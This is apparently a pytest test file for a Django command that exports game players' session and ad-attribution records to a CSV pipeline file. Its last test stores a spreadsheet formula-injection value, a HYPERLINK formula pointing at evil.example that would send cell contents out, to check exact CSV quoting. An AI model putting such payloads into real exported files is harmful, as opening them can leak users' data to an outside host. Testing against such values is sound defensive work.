import io
import json

import pytest
from django.core.management import CommandError, call_command

from accounts.tests.factories import PlayerFactory
from conftest import client_for
from telemetry.models import Click, PlayerAttribution

pytestmark = pytest.mark.django_db


def _batch(player, events):
    response = client_for(player).post(
        "/events/batch", json.dumps({"events": events}), content_type="application/json"
    )
    assert response.json()["rejected"] == []


@pytest.fixture
def sessions_of_two_days(db):
    paid = PlayerFactory(username="paid_player")
    organic = PlayerFactory(username="organic_player")
    click = Click.objects.create(
        created_at="2025-10-01T00:00:00Z", media_source="facebook_ads", campaign="fall", ip_hash="h"
    )
    PlayerAttribution.objects.create(
        player=paid,
        click=click,
        media_source="facebook_ads",
        campaign="fall",
        attributed_at="2025-10-01T00:00:00Z",
    )
    _batch(
        paid,
        [
            {"eventType": "session_start", "timestampUtc": "2025-10-02T09:00:00.123456Z"},
            {"eventType": "level_up", "timestampUtc": "2025-10-02T09:05:00Z"},
            {"eventType": "session_start", "timestampUtc": "2025-10-03T00:00:00Z"},
        ],
    )
    _batch(
        organic,
        [
            {"eventType": "session_start", "timestampUtc": "2025-10-02T01:30:00+02:00"},
            {"eventType": "session_start", "timestampUtc": "2025-10-02T23:59:59Z"},
            {"eventType": "session_start", "timestampUtc": "2025-10-01T23:59:59Z"},
        ],
    )


def test_export_sessions_writes_the_pipeline_input(sessions_of_two_days, tmp_path):
    out = tmp_path / "reports" / "sessions.csv"

    call_command("export_sessions", "--date", "2025-10-02", "--out", str(out))

    assert out.read_text(encoding="utf-8") == (
        "user_id,session_start,session_end,media_source,campaign\n"
        "paid_player,2025-10-02T09:00:00.123456Z,,facebook_ads,fall\n"
        "organic_player,2025-10-02T23:59:59Z,,,\n"
    )
    assert [path.name for path in out.parent.iterdir()] == ["sessions.csv"]


def test_export_sessions_counts_the_utc_day_of_an_offset_time(sessions_of_two_days):
    stdout = io.StringIO()

    call_command("export_sessions", "--date", "2025-10-01", stdout=stdout)

    assert stdout.getvalue() == (
        "user_id,session_start,session_end,media_source,campaign\n"
        "organic_player,2025-10-01T23:30:00Z,,,\n"
        "organic_player,2025-10-01T23:59:59Z,,,\n"
    )


def test_export_sessions_of_a_day_without_sessions_writes_the_header(db, tmp_path):
    out = tmp_path / "sessions.csv"

    call_command("export_sessions", "--date", "2025-10-02", "--out", str(out))

    assert out.read_text() == "user_id,session_start,session_end,media_source,campaign\n"


def test_export_sessions_refuses_a_bad_date(db):
    with pytest.raises(CommandError, match="YYYY-MM-DD"):
        call_command("export_sessions", "--date", "02/10/2025")


def test_export_sessions_writes_stored_formula_text_exactly_for_the_pipeline(db, tmp_path):
    # Attribution stored before /track refused such text: sessions.csv is pipeline input, exact
    # data like the report files (README, "Text in report files"), so it is written unchanged,
    # quoted as CSV, and reads back identically with the pipeline's own reader.
    from analytics.pipeline.inputs import SESSIONS, read_header, scan_input

    player = PlayerFactory(username="legacy_player")
    media_source = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    campaign = '+1,"quoted"\nsecond line'
    PlayerAttribution.objects.create(
        player=player,
        media_source=media_source,
        campaign=campaign,
        attributed_at="2025-10-01T00:00:00Z",
    )
    _batch(player, [{"eventType": "session_start", "timestampUtc": "2025-10-02T09:00:00Z"}])
    out = tmp_path / "sessions.csv"

    call_command("export_sessions", "--date", "2025-10-02", "--out", str(out))

    assert out.read_text(encoding="utf-8") == (
        "user_id,session_start,session_end,media_source,campaign\n"
        'legacy_player,2025-10-02T09:00:00Z,,"=HYPERLINK(""https://evil.example/?""&A1,""open"")",'
        '"+1,""quoted""\nsecond line"\n'
    )
    assert scan_input(read_header(SESSIONS, out)).select(
        "media_source", "campaign"
    ).collect().rows() == [(media_source, campaign)]
